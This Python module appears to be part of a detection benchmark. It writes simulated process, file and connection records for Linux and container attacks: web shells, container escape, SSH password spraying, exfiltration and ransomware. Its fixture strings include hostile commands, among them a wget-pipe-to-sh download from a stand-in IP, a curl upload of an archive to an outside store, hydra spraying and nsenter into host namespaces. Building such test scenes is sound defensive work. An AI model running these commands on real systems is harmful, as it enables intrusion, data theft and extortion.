"""Attacks that run now: through the application, in its memory, through containers; theft and ransom (TA0002, TA0010, TA0040)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import scene


def injected_memfd(host: Host) -> None:
    """T1055: a library that was never a file, mapped into the application."""
    scene.load(host, scene.work(host)["pid"], "/memfd:jit-cache (deleted)")


def chopper(host: Host) -> None:
    """T1505.003: a one-line web shell among uploads, and the command that it runs at this moment."""
    row = scene.work(host)
    scene.put(host, "/var/www/html/uploads/2024/11/thumb.php", uid=row["uid"], age_s=30 * 86_400)
    scene.spawn(
        host, scene.shell(host), 'sh -c cd "/var/www/html/uploads";ps aux;echo [S];pwd;echo [E]', name="sh", uid=row["uid"], parent=row["pid"], age_s=1
    )  # fmt: skip


def quiet_page(host: Host) -> None:
    """T1505.003: a page that waits to be called, named and dated like those around it; no process."""
    scene.put(host, "/var/www/html/errors/503.jsp", age_s=200 * 86_400)


def database_function(host: Host) -> None:
    """T1505.001: a function library in the database, or a module in the cache, loaded after a rogue replication."""
    library = {
        "postgres": "/usr/lib/postgresql/15/lib/pg_stat_audit.so",
        "redis-server": "/var/lib/redis/exp.so",
    }
    row = scene.work(host)
    path = library.get(row["name"], f"{scene.libraries(host)}/perl5/auto/mro/core.so")
    for each in scene.named(host, row["name"])[:3]:
        scene.load(host, each["pid"], path)


def child_shell(host: Host) -> None:
    """T1059.004: a quiet interactive shell below a worker: no socket of its own, its input is a pipe."""
    row = scene.work(host)
    scene.spawn(
        host, scene.shell(host), "/bin/sh -i", name="sh", uid=row["uid"], parent=row["pid"], cwd=row["cwd"]
    )


def terminal_upgrade(host: Host) -> None:
    """T1059.004: script gives the intruder's shell a terminal."""
    row = scene.work(host)
    first = scene.spawn(
        host, "/usr/bin/script", "script -qc /bin/bash /dev/null", uid=row["uid"], parent=row["pid"]
    )
    scene.spawn(host, "/usr/bin/bash", "/bin/bash", uid=row["uid"], parent=first)


def static_pod(host: Host) -> None:
    """T1610, T1611: a manifest in kubelet's folder; its container enters the host's own name spaces."""
    scene.put(host, "/etc/kubernetes/manifests/kube-proxy-sync.yaml")
    shim = scene.spawn(
        host, "/usr/bin/containerd-shim-runc-v2", f"/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {scene.digest(scene.own_address(host))}",
        name="containerd-shim",
    )  # fmt: skip
    scene.spawn(
        host, "/usr/bin/nsenter", "nsenter --mount=/proc/1/ns/mnt -- /bin/bash -c sleep infinity", parent=shim,
        unit="kubepods-besteffort.slice",
    )  # fmt: skip


def host_processes(host: Host) -> None:
    """T1611: a container that sees the processes of the host, not privileged, of an image like others."""
    scene.container(
        host,
        "metrics-sidecar",
        "registry.example/sidecar:2.0.1",
        "/sidecar --listen :9102",
        host_processes=True,
    )


def exec_in_container(host: Host) -> None:
    """T1609: a shell executed inside a running container."""
    row = next((row for row in host.tables["processes"] if row["name"] == "containerd-shim"), scene.work(host))  # fmt: skip
    scene.spawn(
        host,
        scene.shell(host),
        "sh -c wget -qO- http://192.0.2.80/k|sh",
        name="sh",
        parent=row["pid"],
        age_s=30,
    )


def spray(host: Host) -> None:
    """T1110.003, T1021.004: attempts to log in to the neighbours."""
    pid = scene.spawn(host, "/usr/share/hydra/hydra", "hydra -L u -P p -M hosts ssh -t 4", threads=4)
    for last in range(11, 31):
        scene.connect(host, pid, f"10.20.9.{last}", 22)


def staged_quietly(host: Host) -> None:
    """T1074.001: one archive under a plain name in the service's own folder; nobody asks for such files."""
    scene.put(
        host, "/var/lib/app/export/2026-02.tar.zst", mode="0640", uid=scene.work(host)["uid"], age_s=4_000
    )


def sent_by_curl(host: Host) -> None:
    """T1048.002: curl sends a file to an object store that is not the company's."""
    row = scene.work(host)
    pid = scene.spawn(
        host,
        "/usr/bin/curl",
        "curl -sT /var/lib/app/export/2026-02.tar.zst https://store.example/up/",
        uid=row["uid"],
        age_s=60,
    )
    scene.connect(host, pid, "198.51.100.188", 443)


def ransom(host: Host) -> None:
    """T1486, T1489: files are encrypted, the service was stopped, a note lies in the root folder and in motd."""
    row = scene.work(host)
    scene.put(host, "/README_TO_RESTORE.txt")
    scene.put(host, "/etc/update-motd.d/00-restore", mode="0755")
    pid = scene.spawn(
        host,
        "/root/enc",
        "/root/enc -p /var/lib -t 8 --daemon",
        cwd="/root",
        static=True,
        threads=9,
        age_s=200,
    )
    scene.connect(host, pid, "203.0.113.99", 443)
    if row["name"] != "sshd":
        scene.stop(host, row["name"])


ATTACKS = (
    injected_memfd,
    chopper,
    quiet_page,
    database_function,
    child_shell,
    terminal_upgrade,
    static_pod,
    host_processes,
    exec_in_container,
    spray,
    staged_quietly,
    sent_by_curl,
    ransom,
)
